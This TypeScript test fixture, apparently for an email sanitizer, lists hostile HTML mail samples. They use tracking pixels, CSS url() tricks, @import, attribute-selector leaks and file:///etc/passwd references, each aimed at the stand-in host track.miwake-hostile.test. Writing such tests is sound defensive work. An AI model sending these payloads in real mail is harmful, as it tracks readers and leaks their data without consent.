/** Getting something loaded, and so telling who reads it. */
import { hostileUrl as at, hostile } from './kit.ts'

export const loadMails = [
  hostile('image-remote', `<img src="${at}/pixel.gif" width=1 height=1>`),
  hostile('image-protocol-relative', `<img src="//track.miwake-hostile.test/p.gif">`),
  hostile('image-backslash', `<img src="https:\\\\track.miwake-hostile.test\\p.gif">`),
  hostile('image-srcset', `<img srcset="${at}/a.png 1x, ${at}/b.png 2x" sizes=1px>`),
  hostile('picture-source', `<picture><source srcset="${at}/a.webp"><img src="${at}/a.png"></picture>`),
  hostile('image-element-alias', `<image src="${at}/a.png">`),
  hostile(
    'image-data-svg',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${at}/a'/></svg>">`,
  ),
  hostile('image-data-html', `<img src="data:text/html;base64,${btoa(`<img src=${at}>`)}">`),
  hostile('image-blob-cid', `<img src="blob:${at}/1"><img src="cid:../../etc/passwd"><img src="file:///etc/passwd">`),
  hostile(
    'background-attribute',
    `<body background="${at}/a"><table background="${at}/b"><td background="${at}/c">x</table>`,
  ),
  hostile('style-url', `<p style="background:url(${at}/a)">x</p><p style="background-image:URL('${at}/b')">y</p>`),
  hostile(
    'style-url-escaped',
    `<p style="background:\\75 rl(${at}/a)">x</p><p style="background:u\\72\\6C(${at}/b)">y</p>`,
  ),
  hostile('style-url-comment', `<p style="background:u/**/rl(${at}/a);back/**/ground:url(${at}/b)">x</p>`),
  hostile(
    'style-image-set',
    `<p style="background:image-set('${at}/a' 1x);background:-webkit-image-set(url(${at}/b) 1x)">x</p>`,
  ),
  hostile(
    'style-list-cursor',
    `<p style="list-style:url(${at}/a);cursor:url(${at}/b),auto;content:url(${at}/c)">x</p>`,
  ),
  hostile('style-mask-filter', `<p style="mask:url(${at}/a);filter:url(${at}/b#x);clip-path:url(${at}/c)">x</p>`),
  hostile(
    'style-expression',
    `<p style="width:expression(fetch('${at}'));behavior:url(${at}/x.htc);-moz-binding:url(${at}/x)">x</p>`,
  ),
  hostile('style-variable', `<p style="--x:url(${at}/a);background:var(--x)">x</p>`),
  hostile('sheet-import', `<style>@import url(${at}/a.css);@import "${at}/b.css";</style>`),
  hostile('sheet-import-escaped', `<style>@\\69mport "${at}/a.css";@im/**/port "${at}/b.css";</style>`),
  hostile('sheet-font-face', `<style>@font-face{font-family:x;src:url(${at}/f)}p{font-family:x}</style><p>x</p>`),
  hostile(
    'sheet-attribute-leak',
    `<style>input[value^=a]{background:url(${at}/a)}a[href*="t"]{background:url(${at}/t)}</style><a href=t>x</a>`,
  ),
  hostile(
    'sheet-nested',
    `<style>@media screen{@import "${at}/a";p{background:url(${at}/b)}}@supports(a:b){p{background:url(${at}/c)}}</style>`,
  ),
  hostile(
    'sheet-breakout',
    `<style>p{color:red}</style ><img src="${at}/a"><style>p{font-family:"</style><img src=${at}/b>"}</style>`,
  ),
  hostile('sheet-unclosed', `<style>p{background:url("${at}/a`),
  hostile(
    'sheet-brackets',
    `<style>p{color:rgb(1,2,3;background:url(${at}/a)}q{color:"x;background:url(${at}/b)}</style>`,
  ),
  hostile(
    'link-stylesheet',
    `<link rel=stylesheet href="${at}/a.css"><link rel="icon" href="${at}/i"><link rel=dns-prefetch href="//track.miwake-hostile.test">`,
  ),
  hostile(
    'link-preload',
    `<link rel=preload as=image href="${at}/a"><link rel=prefetch href="${at}/b"><link rel=preconnect href="${at}">`,
  ),
  hostile('base-href', `<base href="${at}/"><img src="a.png"><a href="b">x</a>`),
  hostile(
    'manifest-html',
    `<html manifest="${at}/m"><head profile="${at}/p"></head><body><p cite="${at}">x</p></body></html>`,
  ),
]
